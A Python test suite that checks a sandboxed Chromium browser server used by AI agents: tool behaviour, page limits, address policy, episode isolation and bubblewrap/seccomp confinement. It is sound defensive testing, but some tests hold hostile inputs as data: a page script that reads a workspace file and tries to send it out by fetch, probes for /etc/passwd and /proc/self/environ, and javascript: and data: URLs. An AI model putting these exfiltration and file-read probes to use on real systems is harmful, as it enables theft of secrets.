"""The browser server through the real MCP endpoint, on Debian's Chromium, against a loopback site
made here: each tool, a multi-hop question answered only through browser tools, limits, the address
policy, per-episode isolation. One environment (one Chromium) for the module."""

from __future__ import annotations

import base64
import os
import re
import socket
import threading
import time
from collections.abc import Iterator

import aiohttp
import pytest
from gaia_env.browser_site import BrowserSite
from gaia_env.conftest import RunningEnv, connect, in_process_env, text_of, upload

from aworld_gaia_env.browser import missing_browser
from aworld_gaia_env.settings import GaiaEnvSettings

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(missing_browser(GaiaEnvSettings()) is not None, reason="needs Debian's chromium (make sysdeps)"),
]


@pytest.fixture(scope="module")
def site() -> Iterator[BrowserSite]:
    server = BrowserSite().start()
    yield server
    server.stop()


SERVER_SECRET = "sk-browser-test-secret-0123456789"
"""An API key in the environment server's own environment: Chromium must not inherit it."""


@pytest.fixture(scope="module")
def benv(site: BrowserSite) -> Iterator[RunningEnv]:
    # only the test site is allowed among private addresses: the environment's own port stays refused
    with pytest.MonkeyPatch.context() as patch, in_process_env(
        servers="browser,documents-txt",
        allowed_hosts=f"127.0.0.1:{site.port}",
        browser_action_timeout_s=4,
        browser_max_pages=12,
        browser_max_elements=50,
        doc_max_chars=3000,
    ) as env:
        patch.setenv("AWORLD_BROWSER_TEST_API_KEY", SERVER_SECRET)  # Chromium starts on the first browser call
        yield env


def ref_of(text: str, label: str) -> str:
    """The reference of the first listed link or element whose line contains ``label``."""
    for line in text.splitlines():
        match = re.match(r"\s+\[(e\d+)\] (.*)", line)
        if match and label in match.group(2):
            return match.group(1)
    raise AssertionError(f"no element {label!r} in:\n{text}")


async def test_open_runs_javascript_and_wait_for_text(benv, site):
    async with connect(benv, episode="ep-js") as client:
        opened = await client.call_tool("browser__open", {"url": site.base + "/"})
        assert not opened.is_error and "Polar Museum" in text_of(opened)
        waited = await client.call_tool("browser__wait_for_text", {"text": "Rendered by script"})
        assert not waited.is_error and "welcome to the collection" in text_of(waited)
        assert "Search the catalogue -> " + site.base + "/search" in text_of(waited)
        missing = await client.call_tool("browser__wait_for_text", {"text": "never shown", "timeout_s": 0.5})
        assert missing.is_error and "did not appear" in text_of(missing)


async def answer_multi_hop(client, base: str) -> str:
    """A scripted agent: 'What height in cm does the catalogue give for the species whose exhibit
    Dr. Ada Frost donated?' answered with browser tools only."""
    page = text_of(await client.call_tool("browser__open", {"url": base + "/"}))
    page = text_of(await client.call_tool("browser__wait_for_text", {"text": "Search the catalogue"}))
    page = text_of(await client.call_tool("browser__click", {"ref": ref_of(page, "Search the catalogue")}))
    page = text_of(await client.call_tool("browser__type", {"ref": ref_of(page, "Donor or species"), "text": "Frost", "submit": True}))
    hit = next(line for line in page.splitlines() if "Frost" in line and "donated by" in line)
    title = hit.split(" (donated by")[0].strip()
    page = text_of(await client.call_tool("browser__click", {"ref": ref_of(page, title)}))
    assert "Height" not in page  # the table is behind the Measurements tab
    page = text_of(await client.call_tool("browser__click", {"ref": ref_of(page, "Measurements")}))
    return re.search(r"Emperor penguin\s+(\d+)", page).group(1)


async def test_scripted_agent_answers_a_multi_hop_question_with_browser_tools_only(benv, site):
    async with connect(benv, episode="ep-agent", servers="browseruse-server") as client:
        assert {t.name.split("__")[0] for t in (await client.list_tools()).tools} == {"browser"}
        assert await answer_multi_hop(client, site.base) == "122"


async def test_download_lands_in_the_workspace(benv, site):
    async with connect(benv, episode="ep-dl") as client:
        page = text_of(await client.call_tool("browser__open", {"url": site.base + "/item/king"}))
        clicked = await client.call_tool("browser__click", {"ref": ref_of(page, "Download the measurements")})
        assert not clicked.is_error and "saved king.csv" in text_of(clicked)
        listed = await client.call_tool("documents-txt__list_files", {})
        assert "king.csv" in text_of(listed)
    assert (benv.workspace_root / "ep-dl" / "king.csv").read_text() == "species,height_cm\nKing penguin,95\n"


async def test_select_scroll_back_tabs_and_screenshot(benv, site):
    async with connect(benv, episode="ep-ui") as client:
        page = text_of(await client.call_tool("browser__open", {"url": site.base + "/options"}))
        chosen = await client.call_tool("browser__select", {"ref": ref_of(page, "<select>"), "value": "South hall"})
        assert not chosen.is_error and "Hall chosen: south" in text_of(chosen)
        scrolled = text_of(await client.call_tool("browser__scroll", {"direction": "bottom"}))
        assert re.search(r"scrolled to [1-9]\d+ of", scrolled)
        await client.call_tool("browser__open", {"url": site.base + "/popup"})
        page = text_of(await client.call_tool("browser__back", {}))
        assert "Exhibit options" in page
        page = text_of(await client.call_tool("browser__open", {"url": site.base + "/popup"}))
        clicked = text_of(await client.call_tool("browser__click", {"ref": ref_of(page, "King penguin leaflet")}))
        assert "opened a new tab" in clicked and "[tab 2/2] King penguin exhibit" in clicked
        listed = text_of(await client.call_tool("browser__tabs", {}))
        assert "* tab 2: King penguin exhibit" in listed and "tab 1: Leaflet" in listed
        switched = text_of(await client.call_tool("browser__tabs", {"action": "switch", "tab": 1}))
        assert "[tab 1/2] Leaflet" in switched
        closed = text_of(await client.call_tool("browser__tabs", {"action": "close", "tab": 2}))
        assert "tab 2" not in closed
        shot = await client.call_tool("browser__screenshot", {})
        assert not shot.is_error and shot.content[1].mime_type == "image/png"
        assert base64.b64decode(shot.content[1].data)[:8] == b"\x89PNG\r\n\x1a\n"
        bad = await client.call_tool("browser__click", {"ref": "nonsense"})
        assert bad.is_error and "bad element reference" in text_of(bad)


async def test_a_page_that_never_finishes_and_a_huge_page(benv, site):
    async with connect(benv, episode="ep-limits") as client:
        slow = await client.call_tool("browser__open", {"url": site.base + "/slow"})
        assert not slow.is_error
        assert "still loading after 4 s" in text_of(slow) and "partial content arrived" in text_of(slow)
        never = await client.call_tool("browser__open", {"url": site.base + "/hang.png"})
        assert never.is_error and "did not answer within 4 s" in text_of(never)
        huge = await client.call_tool("browser__open", {"url": site.base + "/huge"})
        text = text_of(huge)
        assert not huge.is_error and "line 0 of the huge page" in text and len(text) < 12_000
        assert "[more text: browser__read_page with start_char=3000]" in text
        assert "only the first 50 links and elements are listed" in text
        more = text_of(await client.call_tool("browser__read_page", {"start_char": 3000}))
        assert "text 3000-6000" in more


async def test_page_count_limit(benv, site):
    async with connect(benv, episode="ep-pages") as client:
        page = text_of(await client.call_tool("browser__open", {"url": site.base + "/many/1"}))
        for _ in range(12):
            result = await client.call_tool("browser__click", {"ref": ref_of(page, "next")})
            page = text_of(result)
            if result.is_error:
                break
        assert result.is_error and "BROWSER_MAX_PAGES=12" in page
        again = await client.call_tool("browser__open", {"url": site.base + "/many/1"})
        assert again.is_error and "BROWSER_MAX_PAGES" in text_of(again)


async def test_a_stale_or_unknown_reference_is_answered_at_once(benv, site):
    """Not after BROWSER_ACTION_TIMEOUT_S (4 s here) with Playwright's 'Timeout 4000ms exceeded'."""
    async with connect(benv, episode="ep-refs") as client:
        page = text_of(await client.call_tool("browser__open", {"url": site.base + "/vanish"}))
        hide = ref_of(page, "Hide me")
        page = text_of(await client.call_tool("browser__click", {"ref": hide}))
        assert "one left" in page
        stale = await client.call_tool("browser__click", {"ref": hide})
        assert stale.is_error and f"element {hide} is no longer on the page" in text_of(stale), text_of(stale)
        assert "browser__read_page" in text_of(stale) and "Timeout" not in text_of(stale)
        unknown = await client.call_tool("browser__type", {"ref": "e999", "text": "x"})
        assert unknown.is_error and "there is no element e999 on this page" in text_of(unknown), text_of(unknown)
        still = await client.call_tool("browser__click", {"ref": ref_of(page, "Stay")})
        assert not still.is_error and "still here" in text_of(still)


async def test_a_screenshot_is_kept_in_the_workspace_for_the_image_tools(benv, site):
    async with connect(benv, episode="ep-shot") as client:
        await client.call_tool("browser__open", {"url": site.base + "/item/king"})
        first = await client.call_tool("browser__screenshot", {})
        second = await client.call_tool("browser__screenshot", {"full_page": True})
        listed = text_of(await client.call_tool("documents-txt__list_files", {}))
    assert not first.is_error and first.content[1].mime_type == "image/png"  # and the image itself
    assert "saved in the workspace as screenshots/001.png (media-image__ask_image can look at it)" in text_of(first)
    assert "screenshots/002.png" in text_of(second) and "screenshots/001.png" in listed
    saved = benv.workspace_root / "ep-shot" / "screenshots" / "001.png"
    assert saved.read_bytes() == base64.b64decode(first.content[1].data)


async def test_address_policy(benv, site):
    async with connect(benv, episode="ep-policy") as client:
        own = await client.call_tool("browser__open", {"url": f"http://127.0.0.1:{benv.port}/health"})
        assert own.is_error and "non-public address 127.0.0.1" in text_of(own)
        for url in ("file:///etc/passwd", "chrome://version", "ftp://127.0.0.1/x"):
            refused = await client.call_tool("browser__open", {"url": url})
            assert refused.is_error, url
        assert "outside the workspace" in text_of(await client.call_tool("browser__open", {"url": "file:///etc/passwd"}))
        redirected = await client.call_tool(
            "browser__open", {"url": f"{site.base}/redirect?to=http://127.0.0.1:{benv.port}/health"}
        )
        assert redirected.is_error and "non-public address 127.0.0.1" in text_of(redirected)
        assert '"status"' not in text_of(redirected)
        followed = await client.call_tool("browser__open", {"url": f"{site.base}/redirect?to=/item/king"})
        assert not followed.is_error and "King penguin exhibit" in text_of(followed), text_of(followed)
        probe = await client.call_tool("browser__open", {"url": f"{site.base}/probe?target=http://127.0.0.1:{benv.port}/health"})
        waited = await client.call_tool("browser__wait_for_text", {"text": "probe blocked"})
        assert not probe.is_error and not waited.is_error
    await upload(benv, "ep-policy", "notes/page.html", b"<html><title>Local notes</title><body>from the workspace</body></html>")
    await upload(benv, "ep-policy", "notes/leak.html", (
        "<html><title>Leak</title><body><p id=r>trying</p><script>fetch('data.txt').then(r => r.text())"
        f".then(t => {{ r.textContent = 'read ' + t; return fetch('{site.base}/cookie/show?x=' + t); }})"
        ".then(() => { r.textContent += ' sent'; }, () => { r.textContent += ' stopped'; })"
        "</script></body></html>").encode())
    await upload(benv, "ep-policy", "notes/data.txt", b"workspace-secret")
    async with connect(benv, episode="ep-policy") as client:
        local = await client.call_tool("browser__open", {"url": "notes/page.html"})
        assert not local.is_error and "from the workspace" in text_of(local)
        absolute = await client.call_tool("browser__open", {"url": f"file://{benv.workspace_root}/ep-policy/notes/page.html"})
        assert not absolute.is_error and "Local notes" in text_of(absolute)
        await client.call_tool("browser__open", {"url": "notes/leak.html"})
        stopped = await client.call_tool("browser__wait_for_text", {"text": "read workspace-secret stopped"})
        assert not stopped.is_error  # the workspace page read data.txt but could not send it out
        probe = await client.call_tool("browser__open", {"url": f"{site.base}/probe?target=http://workspace.invalid/notes/data.txt"})
        blocked = await client.call_tool("browser__wait_for_text", {"text": "probe blocked"})
        assert not probe.is_error and not blocked.is_error  # a web page cannot pull workspace files


async def test_episodes_do_not_share_cookies_and_ending_an_episode_closes_its_browser(benv, site):
    async with connect(benv, episode="ep-a") as a, connect(benv, episode="ep-b") as b:
        await a.call_tool("browser__open", {"url": site.base + "/cookie/set?v=alpha"})
        shown_a = text_of(await a.call_tool("browser__open", {"url": site.base + "/cookie/show"}))
        shown_b = text_of(await b.call_tool("browser__open", {"url": site.base + "/cookie/show"}))
    assert "cookies: [secret=alpha]" in shown_a
    assert "cookies: []" in shown_b
    async with aiohttp.ClientSession() as session:
        async with session.delete(f"{benv.base}/workspaces/ep-a", headers={"Authorization": f"Bearer {benv.token}"}) as response:
            assert response.status == 204
    async with connect(benv, episode="ep-a") as a:
        shown = text_of(await a.call_tool("browser__open", {"url": site.base + "/cookie/show"}))
    assert "cookies: []" in shown


async def test_tab_episode_and_lifetime_limits(site):
    import asyncio

    with in_process_env(
        servers="browser", allowed_hosts=f"127.0.0.1:{site.port}", browser_max_tabs=1, browser_max_episodes=1,
        browser_episode_s=10,
    ) as env:
        async with connect(env, episode="ep-one") as one, connect(env, episode="ep-two") as two:
            page = text_of(await one.call_tool("browser__open", {"url": site.base + "/popup"}))
            started = time.monotonic()  # the episode's browser exists from before this
            other = await two.call_tool("browser__open", {"url": site.base + "/"})
            assert other.is_error and "BROWSER_MAX_EPISODES=1" in text_of(other)
            clicked = text_of(await one.call_tool("browser__click", {"ref": ref_of(page, "King penguin leaflet")}))
            assert "a new tab was closed: BROWSER_MAX_TABS=1" in clicked and "[tab 1/1] Leaflet" in clicked
            extra = await one.call_tool("browser__open", {"url": site.base + "/", "new_tab": True})
            assert extra.is_error and "BROWSER_MAX_TABS" in text_of(extra)
            await asyncio.sleep(max(0.0, started + 10.5 - time.monotonic()))
            late = await one.call_tool("browser__read_page", {})
            assert late.is_error and "BROWSER_EPISODE_S=10" in text_of(late)


def _chromium_pids() -> list[int]:
    """Chromium processes below this test process (through Playwright's driver)."""
    parents: dict[int, int] = {}
    exes: dict[int, str] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = open(f"/proc/{entry}/stat").read()
            parents[int(entry)] = int(stat.rsplit(")", 1)[1].split()[1])
            exes[int(entry)] = os.readlink(f"/proc/{entry}/exe")
        except OSError:
            continue

    def below_us(pid: int) -> bool:
        while pid > 1:
            pid = parents.get(pid, 0)
            if pid == os.getpid():
                return True
        return False

    return [pid for pid, exe in exes.items() if "chromium" in exe and below_us(pid)]


async def test_chromium_does_not_inherit_the_servers_environment(benv, site):
    async with connect(benv, episode="ep-env") as client:
        assert not (await client.call_tool("browser__open", {"url": site.base + "/"})).is_error
        environs = []
        for pid in _chromium_pids():
            try:
                environs.append(open(f"/proc/{pid}/environ", "rb").read().split(b"\0"))
            except OSError:  # a sandboxed renderer in its own namespace
                continue
    assert environs, "no Chromium process below the test was readable"
    for environ in environs:
        assert not any(SERVER_SECRET.encode() in item for item in environ)
        assert not any(item.startswith(b"AWORLD_BROWSER_TEST_API_KEY=") for item in environ)
        # the launcher's own variables (its bubblewrap arguments' file, the uid) end with it
        assert not any(item.startswith(b"AWORLD_BROWSER_") for item in environ)
    # Chromium's children write their command line over their environment: the browser process has it
    assert any(re.fullmatch(rb"HOME=.*/gaia-chromium-[^/]+/home", item) for environ in environs for item in environ)


def _status(pid: int) -> dict[str, str]:
    with open(f"/proc/{pid}/status") as handle:
        return dict(line.rstrip("\n").split(":\t", 1) for line in handle if ":\t" in line)


async def test_chromium_runs_unprivileged_in_bubblewrap_with_its_own_sandbox_on(benv, site):
    uid = GaiaEnvSettings().sandbox_uid_base - 1  # the browser's uid, below every episode's
    async with connect(benv, episode="ep-iso") as client:
        assert not (await client.call_tool("browser__open", {"url": site.base + "/"})).is_error
        pids = _chromium_pids()
        assert pids
        kinds = {}
        for pid in pids:
            # Chromium's children rewrite their command line as one string: --type= is searched, not split
            found = re.search(rb"--type=([\w-]+)", open(f"/proc/{pid}/cmdline", "rb").read())
            kind = found.group(1).decode() if found else "browser"
            kinds.setdefault(kind, []).append(pid)
            status = _status(pid)
            # real, effective, saved and file-system uid on the host: never root
            expected = uid if os.geteuid() == 0 else os.getuid()
            assert {int(x) for x in status["Uid"].split()} == {expected}, (kind, status["Uid"])
            # no capability, but the sandboxed zygote's in the user namespace Chromium made for it
            assert status["CapEff"] == "0000000000000000" or kind == "zygote", (kind, status["CapEff"])
            # its own mount namespace: no /work, /root, workspaces, host sockets
            assert os.readlink(f"/proc/{pid}/ns/mnt") != os.readlink("/proc/self/ns/mnt")
            root = f"/proc/{pid}/root"
            for hidden in ("/work", "/root", "/var/run", "/run/postgresql", str(benv.workspace_root), "/etc/shadow"):
                assert not os.path.lexists(root + hidden), (kind, hidden)
        assert set(kinds) >= {"browser", "renderer"}, kinds
        (browser,) = kinds["browser"]
        # the browser process sees bubblewrap's root (its sandboxed children are chrooted into nothing)
        assert os.path.isdir(f"/proc/{browser}/root/usr/lib/chromium")
        assert sorted(os.listdir(f"/proc/{browser}/root")) == sorted(
            {"usr", "etc", "proc", "dev", "tmp", "bin", "sbin", "lib", "lib64", "var", "lib32", "libx32"}
            & set(os.listdir(f"/proc/{browser}/root"))
        )
        for renderer in kinds["renderer"]:
            status = _status(renderer)
            assert status["Seccomp"] == "2", status["Seccomp"]  # Chromium's seccomp-bpf sandbox
            assert status["NoNewPrivs"] == "1"
            # Chromium's namespace sandbox: a user namespace of its own inside bubblewrap's
            assert os.readlink(f"/proc/{renderer}/ns/user") != os.readlink(f"/proc/{browser}/ns/user")
            assert os.readlink(f"/proc/{renderer}/ns/pid") != os.readlink(f"/proc/{browser}/ns/pid")
        assert os.readlink(f"/proc/{browser}/ns/user") != os.readlink("/proc/self/ns/user")
        assert os.readlink(f"/proc/{browser}/ns/pid") != os.readlink("/proc/self/ns/pid")


async def test_pages_cannot_read_another_episodes_workspace_or_host_files(benv, site):
    await upload(benv, "ep-owner", "secret.txt", b"owner's secret 4711")
    owner_file = next(benv.workspace_root.glob("**/secret.txt"))
    assert owner_file.read_bytes() == b"owner's secret 4711"
    async with connect(benv, episode="ep-thief") as client:
        for target in (owner_file.as_uri(), "file:///etc/passwd", "file:///proc/self/environ"):
            opened = await client.call_tool("browser__open", {"url": f"{site.base}/probe?target={target}"})
            assert not opened.is_error, text_of(opened)
            seen = await client.call_tool("browser__wait_for_text", {"text": "probe blocked"})
            assert not seen.is_error, (target, text_of(seen))
        refused = await client.call_tool("browser__open", {"url": owner_file.as_uri()})
        assert refused.is_error and "4711" not in text_of(refused)
        # and were file:// ever let through, the browser's own file system has no workspace in it
        for pid in _chromium_pids():
            assert not os.path.lexists(f"/proc/{pid}/root{owner_file}")


async def test_webrtc_is_off_and_open_refuses_script_urls(benv, site):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.1)
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    tcp.settimeout(0.1)
    arrived: list[str] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                arrived.append(f"udp packet from {udp.recvfrom(2048)[1]}")
            except OSError:
                pass
            try:
                conn, peer = tcp.accept()
                arrived.append(f"tcp connection from {peer}")
                conn.close()
            except OSError:
                pass

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    try:
        async with connect(benv, episode="ep-rtc") as client:
            url = f"{site.base}/webrtc?stun={udp.getsockname()[1]}&turn={tcp.getsockname()[1]}"
            assert not (await client.call_tool("browser__open", {"url": url})).is_error
            done = await client.call_tool("browser__wait_for_text", {"text": "webrtc done"})
            assert not done.is_error
            for bad in ("data:text/html,<script>new RTCPeerConnection()</script>", "javascript:alert(1)",
                        "blob:http://127.0.0.1/x", "about:blank"):
                refused = await client.call_tool("browser__open", {"url": bad})
                assert refused.is_error and "refused: browser__open takes http(s) URLs" in text_of(refused), bad
        time.sleep(1.0)  # ICE gathering would have sent by now
    finally:
        stop.set()
        listener.join(timeout=5)
        udp.close()
        tcp.close()
    assert arrived == []
    assert "page has no WebRTC, iframe has no WebRTC" in text_of(done)


async def test_audit_opt_out_runs_chromium_unisolated_and_says_so(site, caplog):
    """SANDBOX_ISOLATION=audit (the sandbox's explicit opt-out for trusted local use) is the only way to
    the old launch, and it is logged as a warning."""
    with caplog.at_level("WARNING", logger="aworld_gaia_env.browser"), in_process_env(
        servers="browser", allowed_hosts=f"127.0.0.1:{site.port}", sandbox_isolation="audit"
    ) as env:
        async with connect(env, episode="ep-audit") as client:
            opened = await client.call_tool("browser__open", {"url": site.base + "/"})
            assert not opened.is_error, text_of(opened)
            browsers = [pid for pid in _chromium_pids() if b"--type=" not in open(f"/proc/{pid}/cmdline", "rb").read()]
            # the module's isolated Chromium may be running too: this one is in the server's mount namespace
            assert any(os.readlink(f"/proc/{pid}/ns/mnt") == os.readlink("/proc/self/ns/mnt") for pid in browsers)
    assert any("WITHOUT bubblewrap" in record.getMessage() for record in caplog.records)
